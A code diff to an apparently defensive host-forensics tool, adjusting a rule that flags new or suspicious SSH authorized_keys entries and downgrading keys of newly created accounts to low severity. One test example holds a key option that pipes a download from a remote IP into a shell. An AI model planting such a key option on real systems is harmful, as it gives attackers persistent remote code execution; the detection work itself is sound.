@@ -232,6 +232,7 @@ Innocent: a site that steers containers through its web server's account (it is 
 
 // keyChecker looks at authorized keys.
 type keyChecker struct {
+	made    newcomers
 	env     *rules.Env
 	keys    []heldKey
 	changed map[string]string // path of a file of keys: what happened to it since the baseline
@@ -247,6 +248,10 @@ type heldKey struct {
 const maxKeys = 1 << 14
 
 func (c *keyChecker) Record(r *timeline.Record) {
+	c.made.record(r)
+	if r.Kind == timeline.KindAuth || r.Kind == timeline.KindSyslog {
+		return
+	}
 	if r.Kind == timeline.KindChange {
 		if ch := r.Change; ch != nil && ch.After != nil && ch.What != "metadata" && (strings.HasSuffix(ch.After.Path, "/authorized_keys") || strings.HasSuffix(ch.After.Path, "/authorized_keys2") || strings.Contains(ch.After.Path, "/authorized_keys.d/") || strings.HasPrefix(ch.After.Path, "/etc/ssh/authorized")) {
 			if c.changed == nil {
@@ -317,6 +322,8 @@ func (c *keyChecker) Findings() []rules.Finding {
 			}
 			if root || service {
 				s = rules.High
+			} else if c.made.has(c.env, k.account) {
+				s, why = rules.Low, "came with the account, which is new as well"
 			}
 		case service:
 			if c.env.Baseline && what == "" {
@@ -358,10 +365,10 @@ var authorizedKey = &rules.Rule{
 	Title: "A key that lets its holder log in is new or odd",
 	Doc: `Keys of authorized_keys that the baseline does not have, that belong to accounts of services, or whose options run a shell or preload a library. Without a
 baseline, root's keys are listed for the owner to know them (info).
-Innocent: an administrator who added a key since the baseline.`,
+Innocent: an administrator who added a key since the baseline; the first key of an account that is new as well (low).`,
 	Severity:   rules.High,
 	Techniques: []string{"T1098.004"},
-	Kinds:      []string{timeline.KindAuthorizedKey, timeline.KindChange},
+	Kinds:      []string{timeline.KindAuthorizedKey, timeline.KindChange, timeline.KindAuth, timeline.KindSyslog},
 	New:        func(env *rules.Env) rules.Checker { return &keyChecker{env: env} },
 	True: []rules.Example{
 		withEnv(withBaseline, rules.Example{Name: "file added", Severity: rules.High, Records: []timeline.Record{
@@ -369,6 +376,8 @@ Innocent: an administrator who added a key since the baseline.`,
 		withEnv(rules.Env{Baseline: true, KnownKeys: map[string]bool{"SHA256:aaaa": true}}, rules.Example{Name: "key added to others", Severity: rules.High, Records: []timeline.Record{
 			aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:aaaa", ""), aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:bbbb", ""),
 			aChange("content", "/home/alice/.ssh/authorized_keys", nil, "content,size")}}),
+		withEnv(rules.Env{Baseline: true, KnownKeys: map[string]bool{"SHA256:aaaa": true}, Accounts: debianEnv.Accounts}, rules.Example{Name: "of a new account", Severity: rules.Low, Records: []timeline.Record{
+			aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:bbbb", ""), anAdded("/home/alice/.ssh/authorized_keys"), anAuth(0, "useradd", "program", "useradd", "account", "alice")}}),
 		one("service", rules.Medium, aKey("www-data", "/var/www/.ssh/authorized_keys", "SHA256:cccc", "")),
 		one("option", rules.High, aKey("alice", "/home/alice/.ssh/authorized_keys", "SHA256:dddd", `command="bash -c 'curl http://198.51.100.7/x | sh; $SSH_ORIGINAL_COMMAND'"`)),
 		one("root's", rules.Info, aKey("root", "/root/.ssh/authorized_keys", "SHA256:aaaa", "")),
